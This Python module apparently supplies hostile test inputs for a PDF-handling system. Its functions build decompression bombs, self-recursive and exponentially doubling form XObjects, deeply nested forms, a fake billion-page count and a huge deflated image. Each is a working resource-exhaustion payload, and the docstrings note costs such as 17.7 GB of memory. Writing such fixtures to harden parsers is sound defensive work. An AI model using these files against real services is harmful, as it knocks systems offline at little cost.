"""Hostile PDFs, each written by hand: a few hundred bytes that ask for a machine."""

from __future__ import annotations

import io
import zlib

from reportlab.lib import pdfencrypt
from reportlab.pdfgen.canvas import Canvas


def pdf(*objects: bytes, version: bytes = b"1.4") -> bytes:
    """A PDF of these objects, numbered from 1; the first one is the catalogue."""
    out, places = bytearray(b"%PDF-" + version + b"\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj" % number + body + b"endobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    """A stream object."""
    return b"<<" + extra + b"/Length %d>>stream\n" % len(data) + data + b"\nendstream "


def deflated(piece: bytes, count: int) -> bytes:
    """`piece` so many times, deflated, without the work of deflating it so often; its checksum is wrong."""
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\x01" + block * count + b"\x03\x00" + bytes(4)


def one_page(
    content: bytes, *others: bytes, box: bytes = b"0 0 200 200", page: bytes = b"", resources: bytes = b""
) -> bytes:
    """A PDF of one page that draws `content`; `others` are objects 5, 6, ..."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox["
        + box
        + b"]/Contents 4 0 R/Resources<<"
        + resources
        + b">>"
        + page
        + b">>",
        stream(content),
        *others,
    )


def _form(number: int, content: bytes) -> bytes:
    names = b"/XObject<</F %d 0 R>>" % number
    return stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]/Resources<<" + names + b">>")


def recursive_form() -> bytes:
    """A form that draws itself twice: 83 seconds and 17.7 GB without limits."""
    return one_page(b"/F Do", _form(5, b"/F Do /F Do"), resources=b"/XObject<</F 5 0 R>>")


def nested_forms(depth: int = 3000) -> bytes:
    """Each form draws the next one: a stack as deep as the file likes."""
    forms = [_form(6 + i, b"/F Do") for i in range(depth)]
    return one_page(b"/F Do", *forms, stream(b"0 0 50 50 re f"), resources=b"/XObject<</F 5 0 R>>")


def doubling_forms(depth: int = 28) -> bytes:
    """Each form draws the next one twice: 2^depth rectangles."""
    forms = [_form(6 + i, b"/F Do /F Do") for i in range(depth)]
    last = stream(b"0 0 50 50 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]")
    return one_page(b"/F Do", *forms, last, resources=b"/XObject<</F 5 0 R>>")


def double_flate(size: int = 1 << 30) -> bytes:
    """A content stream of `size` spaces, deflated twice: a few kilobytes."""
    packed = deflated(b" " * (1 << 20), size >> 20)
    body = stream(zlib.compress(packed, 9), b"/Filter[/FlateDecode/FlateDecode]")
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R>>",
        body,
    )


def page_of(box: str, page: str = "") -> bytes:
    """A page of any size."""
    return one_page(b"20 20 50 50 re f", box=box.encode(), page=page.encode())


def billion_pages() -> bytes:
    """One page, and a /Count of a billion."""
    return one_page(b"20 20 50 50 re f").replace(b"/Count 1>>", b"/Count 1000000000>>")


def many_pages(count: int = 60_000) -> bytes:
    """More pages than anybody wants, all of them the same object."""
    kids = b"3 0 R " * count
    return one_page(b"20 20 50 50 re f").replace(b"/Kids[3 0 R]/Count 1>>", b"/Kids[%s]/Count %d>>" % (kids, count))


def huge_image(side: int = 30_000, bits: int = 8, colours: bytes = b"/DeviceRGB") -> bytes:
    """A page with a picture of `side` x `side` pixels, deflated."""
    row = b"\xff" * ((side * (3 if colours == b"/DeviceRGB" else 1) * bits + 7) // 8)
    packed = deflated(row, side)
    head = b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent %d/ColorSpace%s/Filter/FlateDecode"
    image = stream(packed, head % (side, side, bits, colours))
    return one_page(b"200 0 0 200 0 0 cm /F Do", image, resources=b"/XObject<</F 5 0 R>>")


def plain(text: str = "Just a page", password: str | None = None) -> bytes:
    """A good page, behind a password where one is given."""
    sink = io.BytesIO()
    locked = pdfencrypt.StandardEncryption(password, "owner", strength=128) if password else None
    sheet = Canvas(sink, pagesize=(300, 200), invariant=1, encrypt=locked)
    sheet.drawString(40, 100, text)
    sheet.showPage()
    sheet.save()
    return sink.getvalue()
